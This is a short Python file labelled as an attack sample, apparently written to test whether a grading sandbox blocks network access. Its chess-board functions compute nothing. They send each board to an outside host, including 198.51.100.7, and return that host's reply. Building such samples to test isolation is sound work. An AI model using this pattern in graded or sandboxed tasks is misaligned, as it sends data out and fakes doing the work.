# Attack: sends every board to a machine of the student's, and returns what comes back.
import json
import socket


def ask(question):
    for family, place in (
        (socket.AF_INET, ("127.0.0.1", 8080)),
        (socket.AF_INET, ("198.51.100.7", 443)),
        (socket.AF_INET6, ("::1", 8080)),
    ):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(1)
                line.connect(place)
                line.sendall(json.dumps(question).encode() + b"\n")
                return json.loads(line.makefile().readline())
        except (OSError, ValueError):
            continue
    return "nobody at home"


def legal_chessboard(board, mover=None):
    return ask({"board": board, "mover": mover})


def chains(board):
    return ask({"board": board})
